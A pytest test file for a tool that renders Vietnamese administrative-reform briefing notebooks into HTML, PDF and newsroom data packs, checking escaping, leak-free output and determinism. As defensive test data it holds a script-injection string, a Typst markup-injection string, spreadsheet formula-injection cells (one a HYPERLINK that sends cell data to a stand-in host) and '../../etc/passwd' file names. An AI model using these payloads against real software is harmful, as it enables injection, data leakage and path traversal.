"""Rendering executed briefing notebooks: HTML (nbconvert), PDF (Typst), newsroom pack, index.

The notebooks here are built with nbformat the way an executed briefing looks under the display
contract (outputs with parbrief metadata and block dicts, one summary output), next to what must
never be published: parameters cells with paths, a stray print, an output without metadata.
"""

from __future__ import annotations

import base64
import csv
import hashlib
import html
import io
import json
import re

import matplotlib
import nbformat
import pytest
from conftest import pdf_objects
from matplotlib.figure import Figure
from pypdf import PdfReader

from parbrief.core import files
from parbrief.publish import contract, index_page, newsroom, quarto, render
from parbrief.publish import html as html_page
from parbrief.publish import pdf as pdf_markup

HOSTILE = "<script>alert(1)</script>"
SECRET = "/srv/secret-data/figures.csv"


def _chart() -> tuple[str, str]:
    """A small real matplotlib chart: deterministic SVG and PNG (150 dpi)."""
    with matplotlib.rc_context({"svg.hashsalt": "parbrief", "font.family": "DejaVu Sans"}):
        fig = Figure(figsize=(5, 2.6))
        ax = fig.subplots()
        quarters = ["Q4/2025", "Q1/2026", "Q2/2026", "Q3/2026"]
        ax.plot(quarters, [88.1, 90.4, 91.2, 92.62], marker="o", color="#8a1c1c")
        ax.set_title("Chỉ số CCHC Xã Tân Kỳ")
        ax.set_ylabel("Điểm")
        svg, png = io.StringIO(), io.BytesIO()
        fig.savefig(svg, format="svg", metadata={"Date": None})
        fig.savefig(png, format="png", dpi=150, metadata={"Software": None})
    return svg.getvalue(), base64.b64encode(png.getvalue()).decode("ascii")


_CHART = _chart()


def _out(block: dict, lang: str, section: str):
    text = block.get("text") or block.get("title") or ""
    data = {"text/html": f"<p>{html.escape(text)}</p>", "text/plain": text,
            contract.BLOCK_MIME: block}
    if block["kind"] == "chart":
        data["image/svg+xml"] = block["svg"]
    return nbformat.v4.new_output("display_data", data=data,
                                  metadata={"parbrief": {"lang": lang, "section": section}})


def _blocks(lang: str, name: str) -> dict[str, list[dict]]:
    svg, png = _CHART
    vi = lang == "vi"
    return {
        "headline": [
            {"kind": "heading", "level": 1,
             "text": (f"{name}: chỉ số CCHC quý III/2026 đạt 92,62 điểm" if vi
                      else f"{name}: PAR index 92.62 in Q3 2026")},
        ],
        "key_figures": [
            {"kind": "lead",
             "text": (f"Quý III/2026, {name} đạt 92,62 điểm, xếp hạng 3/13, loại Xuất sắc." if vi
                      else f"In Q3 2026 {name} scored 92.62, ranked 3/13, rated Excellent.")},
            {"kind": "figures", "items": [
                {"label": "Chỉ số" if vi else "Index", "value": "92,62" if vi else "92.62",
                 "change": "+1,42" if vi else "+1.42"},
                {"label": "Xếp hạng" if vi else "Rank", "value": "3/13", "change": "+2"},
                {"label": "Hồ sơ đúng hạn" if vi else "On time", "value": "98,7%" if vi
                 else "98.7%", "change": ""},
            ]},
        ],
        "scorecard": [
            {"kind": "heading", "level": 2,
             "text": "Điểm theo lĩnh vực" if vi else "Points by area"},
            {"kind": "table", "name": "diem-linh-vuc", "title": "Điểm theo lĩnh vực" if vi
             else "Points by area",
             "columns": ["Lĩnh vực" if vi else "Area", "Điểm" if vi else "Points", "Tối đa" if vi
                         else "Max"],
             "rows": [["Chỉ đạo, điều hành" if vi else "Direction", "8,50" if vi else "8.50", "9"],
                      [name, "17,25" if vi else "17.25", "18"],
                      ["Cải cách TTHC" if vi else "Procedures", "19,00" if vi else "19.00", "20"]],
             "highlight": 1,
             "data": {"columns": ["area", "points", "max"],
                      "rows": [["a1_direction", 8.5, 9], [name, 17.25, 18],
                               ["a3_procedures", 19.0, 20]]}},
        ],
        "trend": [
            {"kind": "chart", "name": "xu-huong", "title": "Xu hướng chỉ số" if vi
             else "Index trend", "alt": "Đường chỉ số tăng từ 88,1 lên 92,62" if vi
             else "Index line rising from 88.1 to 92.62", "svg": svg, "png": png},
        ],
        "shortcomings": [
            {"kind": "heading", "level": 2, "text": "Tồn tại, hạn chế" if vi else "Shortcomings"},
            {"kind": "list", "items": ["Tỷ lệ thanh toán trực tuyến còn thấp (41,2%)." if vi
                                       else "Online payment is low (41.2%).", f"{name} #1 * _x_"]},
            {"kind": "paragraph", "text": f"Đơn vị {name} cần đẩy mạnh số hoá hồ sơ." if vi
             else f"{name} should digitise more records."},
            {"kind": "note", "text": "Nguồn: số liệu báo cáo quý của đơn vị." if vi
             else "Source: the unit's quarterly report."},
        ],
    }


def make_notebook(name: str = "Xã Tân Kỳ", languages=("vi", "en")) -> nbformat.NotebookNode:
    nb = nbformat.v4.new_notebook()
    nb.metadata["papermill"] = {"parameters": {"data": SECRET, "locality": "17266"},
                                "input_path": "/srv/notebooks/briefing.ipynb"}
    nb.metadata["kernelspec"] = {"name": "parbrief", "display_name": "Python (parbrief)",
                                 "language": "python"}
    cells = [
        nbformat.v4.new_code_cell("# PAR briefing (bản tin CCHC): one locality, one quarter."),
        nbformat.v4.new_code_cell('locality = "17266"\ndata = "../data/sample"',
                                  metadata={"tags": ["parameters"]}),
        nbformat.v4.new_code_cell(f'# Parameters\nlocality = "17266"\ndata = "{SECRET}"',
                                  metadata={"tags": ["injected-parameters"]}),
    ]
    summary_out = nbformat.v4.new_output(
        "display_data",
        data={contract.SUMMARY_MIME: {
            "kind": "briefing", "locality_code": "17266", "locality_name": name,
            "period": "2026Q3", "methodology": "par-commune", "index": 92.62, "rank": 3,
            "rank_of": 13, "classification": {"vi": "Xuất sắc", "en": "Excellent"},
            "lead": {"vi": "…", "en": "…"}, "inputs": "0123456789abcdef0123",
            "parbrief_version": "0.1.0"}, "text/plain": "summary"},
        metadata={"parbrief": {"summary": True}})
    stray = [nbformat.v4.new_output("stream", name="stdout", text=f"debug {SECRET}\n"),
             nbformat.v4.new_output("display_data", data={"text/html": "<b>stray output</b>",
                                                           "text/plain": "stray output"})]
    cells.append(nbformat.v4.new_code_cell(
        "from parbrief import briefing, sections\nb = briefing.prepare(locality, period, data)",
        outputs=[summary_out, *stray]))
    cells.append(nbformat.v4.new_markdown_cell(f"Analyst note: data in {SECRET}"))
    per_lang = {lang: _blocks(lang, name) for lang in languages}
    for section in per_lang[languages[0]]:
        outputs = [_out(block, lang, section) for lang in languages
                   for block in per_lang[lang][section]]
        cells.append(nbformat.v4.new_code_cell(
            f"sections.show(sections.{section}, b, languages)", outputs=outputs))
    for i, cell in enumerate(cells):
        cell["id"] = f"cell-{i}"
        if cell.cell_type == "code":
            cell.execution_count = i
    nb.cells = cells
    return nb


@pytest.fixture(scope="module")
def renderer() -> render.Renderer:
    return render.Renderer()


@pytest.fixture(scope="module")
def nb() -> nbformat.NotebookNode:
    return make_notebook()


@pytest.fixture(scope="module")
def hostile_nb() -> nbformat.NotebookNode:
    return make_notebook(HOSTILE)


def _pdf_text(pdf: bytes) -> str:
    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(pdf)).pages)


# ---------------------------------------------------------------------------------- blocks

def test_blocks_are_the_outputs_of_one_language_in_order(nb):
    vi = contract.blocks(nb, "vi")
    en = contract.blocks(nb, "en")
    assert [b["kind"] for b in vi] == ["heading", "lead", "figures", "heading", "table", "chart",
                                       "heading", "list", "paragraph", "note"]
    assert [b["kind"] for b in en] == [b["kind"] for b in vi]
    assert vi[0]["text"] == "Xã Tân Kỳ: chỉ số CCHC quý III/2026 đạt 92,62 điểm"
    assert en[0]["text"] == "Xã Tân Kỳ: PAR index 92.62 in Q3 2026"
    assert type(vi[4]) is dict and vi[4]["data"]["rows"][0] == ["a1_direction", 8.5, 9]


def test_summary_and_a_missing_summary(nb):
    info = contract.summary(nb)
    assert info["locality_code"] == "17266" and info["rank"] == 3
    bare = make_notebook()
    bare.cells[3].outputs = []
    with pytest.raises(contract.RenderError, match="no parbrief summary output"):
        contract.summary(bare)


def test_blocks_reject_unknown_language_and_kind(nb):
    with pytest.raises(ValueError, match="unknown language 'fr'"):
        contract.blocks(nb, "fr")
    odd = make_notebook()
    odd.cells[5].outputs[0]["data"][contract.BLOCK_MIME]["kind"] = "video"
    with pytest.raises(contract.RenderError, match="unknown block kind 'video'"):
        contract.blocks(odd, "vi")


# ---------------------------------------------------------------------------------- HTML

def test_html_publishes_only_the_blocks_of_its_language(renderer, nb):
    page = renderer.html(nb, "vi").decode("utf-8")
    assert page.startswith('<!DOCTYPE html>\n<html lang="vi">\n<head>\n<meta charset="utf-8">')
    assert "<title>Xã Tân Kỳ: chỉ số CCHC quý III/2026 đạt 92,62 điểm</title>" in page
    assert "<h1>Xã Tân Kỳ: chỉ số CCHC quý III/2026 đạt 92,62 điểm</h1>" in page
    assert '<p class="lead">Quý III/2026, Xã Tân Kỳ đạt 92,62 điểm, xếp hạng 3/13' in page
    assert '<span class="value">92,62</span>' in page
    assert '<th scope="col" class="num">Điểm</th>' in page
    assert '<tr class="highlight"><td>Xã Tân Kỳ</td><td class="num">17,25</td>' in page
    # the chart's own SVG in the page (its text in the page's embedded font), described
    assert page.count("<img ") == 0 and page.count("<svg ") == 1
    assert '<svg role="img" aria-label="Đường chỉ số tăng từ 88,1 lên 92,62"' in page
    # nothing of the English copy, the code, the parameters or the notebook metadata
    assert "PAR index 92.62" not in page and "Points by area" not in page
    for leaked in ("injected-parameters", "parameters", "sections.show", "briefing.prepare",
                   "locality =", SECRET, "secret", "papermill", "stray output", "debug",
                   "Analyst note", "In&nbsp;[", "In [", "jp-", "cell-", "kernelspec"):
        assert leaked not in page, leaked
    # no generated ids but the chart's own, made unique in the page
    ids = re.findall(r'\bid="([^"]+)"', page)
    assert ids and all(re.fullmatch(r"c\d+-\S+", i) for i in ids) and len(set(ids)) == len(ids)
    footer = re.search(r"<footer>(.*)</footer>", page).group(1)
    # in the reader's words: no methodology id, no English
    assert footer == ("Xã Tân Kỳ (mã 17266) · Quý III/2026 · mã số liệu 0123456789ab · "
                      "lập bằng parbrief 0.1.0")


def test_html_english_copy(renderer, nb):
    page = renderer.html(nb, "en").decode("utf-8")
    assert '<html lang="en">' in page
    assert "<title>Xã Tân Kỳ: PAR index 92.62 in Q3 2026</title>" in page
    assert "Q3 2026 · methodology par-commune" in page
    assert "chỉ số CCHC quý III" not in page


def test_html_is_self_contained(renderer, nb):
    page = renderer.html(nb, "vi")
    assert html_page.external_references(page) == []
    assert b"http" not in page  # not even the SVG's namespace URLs
    assert b"<link" not in page and b"<script" not in page
    assert b"@page { size: A4" in page and b"break-inside: avoid" in page
    # the chart's font travels with the page: DejaVu Sans, regular and bold, as WOFF2
    faces = re.findall(rb'@font-face \{ font-family: "DejaVu Sans"; font-style: normal; '
                       rb'font-weight: (\w+); src: url\(data:font/woff2;base64,([^)]+)\) '
                       rb'format\("woff2"\)', page)
    assert [w for w, _ in faces] == [b"normal", b"bold"]
    from fontTools.ttLib import TTFont

    font = TTFont(io.BytesIO(base64.b64decode(faces[0][1])))
    assert font["name"].getDebugName(1) == "DejaVu Sans"
    assert {ord(c) for c in "Xã Tân Kỳ Đô Lương Quý ứ ợ"} <= set(font.getBestCmap())
    # the chart is the chart's SVG, its text unchanged
    svg = re.search(r"<svg .*?</svg>", page.decode("utf-8"), re.DOTALL).group(0)
    assert re.findall(r"<text[^>]*>([^<]+)</text>", svg) == \
        re.findall(r"<text[^>]*>([^<]+)</text>", _CHART[0])
    # and the hostile-looking-but-harmless detector does fire on a remote reference
    assert html_page.external_references('<img src="https://x.org/a.png">') == ['src="https://']
    assert html_page.external_references("a { background: url(//cdn.x/y) }") == ["url(//"]


def test_html_escapes_a_script_in_the_data(renderer, hostile_nb):
    page = renderer.html(hostile_nb, "vi").decode("utf-8")
    assert "<script" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "<title>&lt;script&gt;alert(1)&lt;/script&gt;: chỉ số CCHC" in page
    assert "<td>&lt;script&gt;alert(1)&lt;/script&gt;</td>" in page


def test_html_is_byte_identical_for_the_same_notebook(renderer, nb):
    first = renderer.html(nb, "vi")
    assert renderer.html(nb, "vi") == first
    assert render.Renderer().html(make_notebook(), "vi") == first  # another renderer, a copy


def test_html_refuses_a_notebook_without_that_language(renderer):
    only_vi = make_notebook(languages=("vi",))
    with pytest.raises(contract.RenderError, match="no parbrief outputs in language 'en'"):
        renderer.html(only_vi, "en")


def test_rendering_leaves_the_notebook_unchanged(renderer):
    nb = make_notebook()
    before = json.dumps(nb, sort_keys=True)
    renderer.html(nb, "vi")
    renderer.pdf(nb, "en")
    assert json.dumps(nb, sort_keys=True) == before


# ---------------------------------------------------------------------------------- PDF

def test_pdf_is_a4_with_vietnamese_text_and_footer(renderer, nb):
    pdf = renderer.pdf(nb, "vi")
    reader = PdfReader(io.BytesIO(pdf))
    page = reader.pages[0]
    assert (round(float(page.mediabox.width)), round(float(page.mediabox.height))) == (595, 842)
    text = _pdf_text(pdf)
    # the committee edition: the decree's frame around the report, its title as the subject
    assert "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM\nĐộc lập - Tự do - Hạnh phúc" in text
    assert "BÁO CÁO\nXã Tân Kỳ: chỉ số CCHC quý III/2026 đạt 92,62 điểm" in text
    assert "I. Điểm theo lĩnh vực" in text and "17,25" in text and "3/13" in text
    assert "Nơi nhận:\n- ………………………………\n- Lưu: VT" in text
    assert "Trang" not in text and "par-commune" not in text
    assert reader.metadata.title == "Xã Tân Kỳ: chỉ số CCHC quý III/2026 đạt 92,62 điểm"
    assert reader.metadata.get("/CreationDate") is None and reader.metadata.get("/ModDate") is None
    assert b"/srv/" not in pdf_objects(pdf) and b"papermill" not in pdf_objects(pdf)


def test_pdf_embeds_the_chart_and_the_documents_font(renderer, nb):
    files = renderer.typst_files(nb, "vi")
    assert files["chart-1.svg"] == _CHART[0].encode("utf-8")
    assert "#chart([Hình 1\\. Xu hướng chỉ số], \"chart-1.svg\"" in files["main.typ"].decode("utf-8")
    pdf = pdf_objects(renderer.pdf(nb, "vi"))
    assert b"LiberationSerif" in pdf and b"DejaVuSans" not in pdf


def test_pdf_is_byte_identical_for_the_same_notebook(renderer, nb):
    first = renderer.pdf(nb, "en")
    assert renderer.pdf(nb, "en") == first
    assert render.Renderer().pdf(make_notebook(), "en") == first
    assert "Xã Tân Kỳ: PAR index 92.62 in Q3 2026" in _pdf_text(first)
    assert "CỘNG HÒA" not in _pdf_text(first)  # the English edition has no decree frame


def test_pdf_shows_a_script_name_as_text(renderer, hostile_nb):
    text = _pdf_text(renderer.pdf(hostile_nb, "vi"))
    assert "<script>alert(1)</script>: chỉ số CCHC" in text
    assert "<script>alert(1)</script> #1 * _x_" in text


def test_pdf_first_page_raster_has_ink_and_a_chart(renderer, nb, tmp_path):
    import pypdfium2 as pdfium

    doc = pdfium.PdfDocument(renderer.pdf(nb, "vi"))
    image = doc[0].render(scale=1).to_pil().convert("L")
    image.save(tmp_path / "page1.png")
    width, height = image.size
    assert abs(width - 595) <= 1 and height == 842  # A4 at 72 dpi
    dark = sum(image.histogram()[:128])
    assert dark > 2000  # text and the chart line, not an empty page
    doc.close()


def test_pdf_and_html_of_unusual_blocks(renderer):
    """Edge shapes the sections may produce: empty list and table, one column, a PNG-only
    chart, no level-1 heading, multi-line text."""
    _, png = _CHART
    odd = [
        {"kind": "heading", "level": 2, "text": "Ghi chú\n= không phải tiêu đề"},
        {"kind": "list", "items": []},
        {"kind": "list", "items": ["1. một mục"]},
        {"kind": "table", "name": "t", "title": None, "columns": ["Mã"], "rows": [],
         "highlight": None},
        {"kind": "table", "name": "u", "title": "", "columns": ["A", "B"],
         "rows": [["x"], ["y", "2", "extra"]], "highlight": 7},
        {"kind": "figures", "items": [{"label": "L", "value": "1"}]},
        {"kind": "chart", "name": "png-only", "title": "", "alt": "", "svg": "", "png": png},
        {"kind": "note", "text": "dòng 1\r\ndòng 2\tđủ"},
    ]
    nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(
        "", outputs=[_out(b, "vi", "odd") for b in odd])])
    text = _pdf_text(renderer.pdf(nb, "vi"))
    assert "Ghi chú = không phải tiêu đề" in text and "1. một mục" in text
    assert "dòng 1 dòng 2 đủ" in text
    page = renderer.html(nb, "vi").decode("utf-8")
    assert "<title>parbrief</title>" in page  # no headline and no summary
    assert 'src="data:image/png;base64,' in page
    assert newsroom.newsroom_files(contract.blocks(nb, "vi"))["png-only.png"] == base64.b64decode(png)


HOSTILE_TYPST = ('#set page(width: 1cm) $x^2$ *bold* _it_ `raw` <lbl> @ref [a] {b} \\ // c '
                 '/* d */ = h - i + j 1. k ~ -- --- ... \'q\' "q" http://x.y/z #{1/0} a\nb')


def test_typst_escape_escapes_every_markup_character():
    assert pdf_markup.typst_escape("Xã Tân Kỳ") == "Xã Tân Kỳ"
    assert pdf_markup.typst_escape("#[x]") == "\\#\\[x\\]"
    assert pdf_markup.typst_escape("a\\b") == "a\\\\b"
    assert pdf_markup.typst_escape("1. 5$ *b* _i_") == "1\\. 5\\$ \\*b\\* \\_i\\_"
    assert pdf_markup.typst_escape("line\nbreak\x00") == "line break"
    assert pdf_markup.typst_str('say "hi"\\\n') == '"say \\"hi\\"\\\\\\n"'


def test_typst_escape_of_a_hostile_string_prints_it_literally(renderer):
    import typst

    source = ('#set page(paper: "a4", flipped: true)\n#set text(font: "DejaVu Sans", size: 8pt)\n'
              f"#par[{pdf_markup.typst_escape(HOSTILE_TYPST)}]\n"
              f"#par[{pdf_markup.typst_escape(HOSTILE)}]\n")
    pdf = renderer.compiler.compile(input={"main.typ": source.encode("utf-8")}, format="pdf")
    text = " ".join(_pdf_text(pdf).split())
    assert HOSTILE_TYPST.replace("\n", " ") in text
    assert HOSTILE in text
    # the same string unescaped is not text: it is code and fails or changes the page
    with pytest.raises(typst.TypstError):
        typst.compile(f"#par[{HOSTILE_TYPST}]".encode())


# ---------------------------------------------------------------------------------- newsroom

def test_newsroom_pack(renderer, nb, tmp_path):
    folder = tmp_path / "17266-xa-tan-ky.vi.newsroom"
    paths = renderer.newsroom(nb, "vi", folder)
    pack = ["diem-linh-vuc.csv", "diem-linh-vuc.xlsx", "index.html", "lead.txt", "xu-huong.png",
            "xu-huong.svg"]
    assert sorted(p.name for p in paths) == pack
    assert all(p.parent == folder and p.is_file() for p in paths)
    assert (folder / "lead.txt").read_text(encoding="utf-8") == (
        "Xã Tân Kỳ: chỉ số CCHC quý III/2026 đạt 92,62 điểm\n\n"
        "Quý III/2026, Xã Tân Kỳ đạt 92,62 điểm, xếp hạng 3/13, loại Xuất sắc.\n")
    assert (folder / "xu-huong.svg").read_text(encoding="utf-8") == _CHART[0]
    png = (folder / "xu-huong.png").read_bytes()
    # print size: rasterised from the SVG at 350 ppi (the fixture chart is 5 in wide)
    assert png.startswith(b"\x89PNG") and int.from_bytes(png[16:20], "big") == 1750
    raw = (folder / "diem-linh-vuc.csv").read_bytes()
    assert raw.startswith("\ufeff".encode()) and b"\r\n" in raw  # Excel on Windows reads UTF-8
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows == [["Lĩnh vực", "Điểm đạt", "Điểm tối đa"], ["a1_direction", "8.5", "9"],
                    ["Xã Tân Kỳ", "17.25", "18"], ["a3_procedures", "19", "20"]]
    index = (folder / "index.html").read_text(encoding="utf-8")
    assert [m for m in re.findall(r'href="([^"]+)"', index)] == [
        "lead.txt", "diem-linh-vuc.csv", "diem-linh-vuc.xlsx", "xu-huong.png", "xu-huong.svg"]
    # a second pack replaces the first as a whole: no stale files remain
    (folder / "old-chart.png").write_bytes(b"stale")
    renderer.newsroom(nb, "en", folder)
    assert sorted(p.name for p in folder.iterdir()) == pack
    assert [p.name for p in tmp_path.iterdir()] == [folder.name]  # no scratch folders left


HOSTILE_CELLS = ['=HYPERLINK("http://example.invalid/?q="&A1,"Bấm vào đây")', "=1+2",
                 "@SUM(1+1)", "+84 912", "-1+1", "\t=cmd", "\r=cmd", "＝1+2"]


def test_every_text_cell_of_a_pack_is_neutralised_against_formula_injection():
    from openpyxl import load_workbook

    block = {"kind": "table", "name": "areas", "title": "=title", "columns": ["a", "b"],
             "rows": [], "data": {"columns": ["=area", "rank"],
                                  "rows": [[text, -20.0] for text in HOSTILE_CELLS]}}
    files = newsroom.newsroom_files([block], "en")
    rows = list(csv.reader(io.StringIO(files["areas.csv"].decode("utf-8-sig"))))
    assert rows[0] == ["'=area", "Rank"]
    assert [r[0] for r in rows[1:]] == ["'" + text for text in HOSTILE_CELLS]
    assert {r[1] for r in rows[1:]} == {"-20"}  # a number stays a number, an integer rank
    sheet = load_workbook(io.BytesIO(files["areas.xlsx"])).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c for c in cells if c.data_type == "f"]  # no formula anywhere
    texts = [c for c in cells if isinstance(c.value, str)]
    assert all(c.quotePrefix for c in texts if c.value.startswith("'"))
    assert [c.value for c in sheet["B"][3:]] == [-20] * len(HOSTILE_CELLS)
    # the same table gives the same bytes (no time in the workbook)
    assert newsroom.newsroom_files([block], "en")["areas.xlsx"] == files["areas.xlsx"]


def test_pack_numbers_are_rounded_as_displayed_and_headers_are_in_the_report_language():
    block = {"kind": "table", "name": "peers", "title": "t", "columns": [], "rows": [],
             "data": {"columns": ["rank", "name", "index", "on_time_rate", "index_change",
                                  "rank_change", "reconstructed"],
                      "rows": [[3.0, "Xã Tân Kỳ", 92.625, 96.4941569282137, -0.005, -20.0,
                                True]]}}
    for lang, header, flag in (("vi", "Hạng", "có"), ("en", "Rank", "yes")):
        rows = list(csv.reader(io.StringIO(newsroom.newsroom_files([block], lang)["peers.csv"]
                                           .decode("utf-8-sig"))))
        assert rows[0][0] == header and rows[0][3].endswith("(%)")
        assert rows[1] == ["3", "Xã Tân Kỳ", "92.63", "96.49", "-0.01", "-20", flag]


def test_newsroom_file_names_cannot_leave_the_folder():
    found = [{"kind": "table", "name": "../../etc/passwd", "columns": ["a"], "rows": [["1"]]},
             {"kind": "table", "name": "../../etc/passwd", "columns": ["a"], "rows": [["2"]]},
             {"kind": "chart", "name": "", "svg": "<svg/>", "png": ""},
             {"kind": "chart", "name": "Điểm số quý", "svg": "<svg/>", "png": ""}]
    assert list(newsroom.newsroom_files(found)) == [
        "etc-passwd.csv", "etc-passwd.xlsx", "etc-passwd-2.csv", "etc-passwd-2.xlsx",
        "chart-1.svg", "Diem-so-quy.svg", "index.html"]


# ---------------------------------------------------------------------------------- writing

def test_atomic_write_replaces_and_keeps_the_old_file_on_failure(tmp_path):
    target = tmp_path / "report.html"
    files.atomic_write(target, b"old")
    assert target.read_bytes() == b"old"

    def failing(fh):
        fh.write(b"half of the new ")
        raise OSError("disk full")

    with pytest.raises(OSError, match="disk full"):
        files.atomic_write(target, failing)
    assert target.read_bytes() == b"old"
    assert [p.name for p in tmp_path.iterdir()] == ["report.html"]  # the temp file is gone
    files.atomic_write(target, lambda fh: fh.write(b"new"))
    assert target.read_bytes() == b"new"
    assert target.stat().st_mode & 0o044 == 0o044  # readable by others, like any report


def test_render_report_writes_every_file(renderer, nb, tmp_path):
    written = render.render_report(nb, tmp_path, "17266-xa-tan-ky", ["vi", "en"],
                                   ["html", "pdf"], renderer=renderer)
    assert sorted(written) == ["en.html", "en.newsroom", "en.pdf", "vi.html", "vi.newsroom",
                               "vi.pdf"]
    assert written["vi.html"] == tmp_path / "17266-xa-tan-ky.vi.html"
    assert written["en.pdf"].read_bytes().startswith(b"%PDF")
    links = html_page.report_links("17266-xa-tan-ky", ["vi", "en"], ["html", "pdf", "newsroom"],
                                   site=False)
    assert written["vi.html"].read_bytes() == renderer.html(nb, "vi", links["vi"])
    nav = re.search(r'<nav class="site".*?</nav>', written["vi.html"].read_text("utf-8"),
                    re.DOTALL).group(0)
    assert re.findall(r'href="([^"]+)"', nav) == [
        "17266-xa-tan-ky.en.html", "17266-xa-tan-ky.vi.pdf",
        "17266-xa-tan-ky.vi.newsroom/index.html"]
    assert "In Q3 2026 Xã Tân Kỳ scored 92.62" in \
        (written["en.newsroom"] / "lead.txt").read_text(encoding="utf-8")
    assert sorted(p.name for p in tmp_path.iterdir()) == [
        "17266-xa-tan-ky.en.html", "17266-xa-tan-ky.en.newsroom", "17266-xa-tan-ky.en.pdf",
        "17266-xa-tan-ky.vi.html", "17266-xa-tan-ky.vi.newsroom", "17266-xa-tan-ky.vi.pdf"]
    only = render.render_report(nb, tmp_path / "pdf-only", "x", ["vi"], ["pdf"],
                                renderer=renderer)
    assert list(only) == ["vi.pdf"]


def test_render_report_checks_its_arguments(renderer, nb, tmp_path):
    with pytest.raises(ValueError, match="unknown output format 'odt'"):
        render.render_report(nb, tmp_path, "x", ["vi"], ["odt"], renderer=renderer)
    with pytest.raises(ValueError, match="bad report file stem"):
        render.render_report(nb, tmp_path, "../x", ["vi"], ["html"], renderer=renderer)
    with pytest.raises(ValueError, match="unknown renderer 'latex'"):
        render.render_report(nb, tmp_path, "x", ["vi"], ["html"], renderer="latex")


def test_published_notebook_keeps_only_one_language(nb):
    pub = contract.published_notebook(nb, "en")
    text = json.dumps(pub, ensure_ascii=False)
    assert "PAR index 92.62" in text and "chỉ số CCHC quý III" not in text
    assert SECRET not in text and "injected-parameters" not in text and "parameters" not in text
    assert all(cell.source == "" for cell in pub.cells)
    nbformat.validate(pub)


@pytest.mark.skipif(quarto.quarto_available() is None,
                    reason="quarto is not installed (optional renderer; see quarto.org)")
@pytest.mark.slow
def test_quarto_renders_the_published_copy(nb, tmp_path):
    written = render.render_report(nb, tmp_path, "q", ["vi"], ["html", "pdf"],
                                   renderer="quarto")
    assert "Xã Tân Kỳ" in written["vi.html"].read_text(encoding="utf-8")
    assert "Xã Tân Kỳ" in _pdf_text(written["vi.pdf"].read_bytes())


def test_quarto_absent_says_so(monkeypatch, tmp_path):
    monkeypatch.setenv("PATH", str(tmp_path))
    assert quarto.quarto_available() is None
    with pytest.raises(RuntimeError, match="quarto is not installed"):
        quarto.render_with_quarto(tmp_path / "x.ipynb", tmp_path, ["html"])


# ---------------------------------------------------------------------------------- index

def _entries():
    base = {"kind": "briefing", "period": "2026Q3", "methodology": "par-commune"}
    return [
        dict(base, locality_code="17266", locality_name="Xã Tân Kỳ", index=92.62, rank=3,
             rank_of=13, classification={"vi": "Xuất sắc", "en": "Excellent"},
             links={"en": {"pdf": "40/17266-xa-tan-ky.en.pdf",
                           "html": "40/17266-xa-tan-ky.en.html"},
                    "vi": {"html": "40/17266-xa-tan-ky.vi.html",
                           "pdf": "40/17266-xa-tan-ky.vi.pdf"}}),
        dict(base, locality_code="16681", locality_name=HOSTILE, index=95.1, rank=1, rank_of=13,
             classification={"vi": "Xuất sắc", "en": "Excellent"},
             links={"vi": {"html": "40/16681.vi.html"}}),
        dict(base, kind="overview", locality_code="40", locality_name="Nghệ An", index=None,
             rank=None, rank_of=None, classification=None,
             links={"vi": {"html": "40/overview.vi.html"}}),
    ]


def test_province_page_lists_every_briefing_sortable_and_searchable_offline():
    entries = [dict(e, name={"vi": e["locality_name"], "en": e["locality_name"]})
               for e in _entries() if e["kind"] == "briefing"]
    overview = next(e for e in _entries() if e["kind"] == "overview")
    overview = dict(overview, headline={"vi": "Tít", "en": "Headline"},
                    lead={"vi": "Đoạn mở đầu", "en": "Lead"})
    page = index_page.province_page("2026Q3", "vi", ["vi", "en"], overview,
                                    entries).decode("utf-8")
    assert '<html lang="vi">' in page and '<p class="headline">Tít</p>' in page
    rows = re.findall(r'<tr data-text="[^"]*">(.*?)</tr>', page)
    assert len(rows) == 2
    assert rows[0].startswith("<td data-sort=\"&lt;script&gt;")  # first by rank; escaped
    assert "<script>alert" not in page
    tan_ky = rows[1]
    assert '<td class="num" data-sort="92.62">92,62</td>' in tan_ky
    assert '<td class="num" data-sort="3">3/13</td>' in tan_ky
    assert re.findall(r'href="([^"]+)"', tan_ky) == [
        "40/17266-xa-tan-ky.vi.html", "40/17266-xa-tan-ky.vi.pdf", "40/17266-xa-tan-ky.en.html"]
    assert '<table class="sortable" data-search="units-q"' in page
    assert 'type="search"' in page and "localeCompare" in page  # sorts and filters in the page
    assert "../index.html" in page and 'href="index.en.html"' in page
    assert html_page.external_references(page) == [] and "http" not in page
    again = index_page.province_page("2026Q3", "vi", ["vi", "en"], overview,
                                     list(reversed(entries)))
    assert again == page.encode("utf-8")


def test_national_page_lists_provinces_with_their_key_figures():
    overview = dict(next(e for e in _entries() if e["kind"] == "overview"), reported=129,
                    total=130, index=82.49, first={"vi": "xã Tân Châu", "en": "Tân Châu commune"},
                    last={"vi": "xã Nghĩa Đồng", "en": "Nghĩa Đồng commune"}, class_up=15,
                    class_down=5, name={"vi": "Tỉnh Nghệ An", "en": "Nghệ An province"})
    page = index_page.national_page("2026Q3", "en", ["vi", "en"],
                                    [{"folder": "nghe-an", "overview": overview,
                                      "briefings": 129}]).decode("utf-8")
    assert '<html lang="en">' in page and "<title>PAR index, Q3 2026: provinces</title>" in page
    row = re.search(r"<tr data-text=.*?</tr>", page).group(0)
    assert '<a href="nghe-an/index.en.html">Nghệ An province</a>' in row
    assert ">129/130<" in row and ">82.49<" in row and ">15/5<" in row
    assert "Tân Châu commune" in row and "Nghĩa Đồng commune" in row
    assert '<a href="nghe-an/40/overview.vi.html" hreflang="vi" lang="vi">VI</a>' in row
    assert 'href="index.html"' in page  # the Vietnamese page


def test_index_links_must_be_relative():
    entry = dict(_entries()[0], links={"vi": {"html": "/srv/reports/a.html"}})
    with pytest.raises(ValueError, match="relative to the index page"):
        index_page.province_page("2026Q3", "vi", ["vi"], None, [entry])


def test_chart_fixture_is_deterministic():
    assert hashlib.sha256(_chart()[0].encode()).hexdigest() == \
        hashlib.sha256(_CHART[0].encode()).hexdigest()
    assert _chart()[1] == _CHART[1]
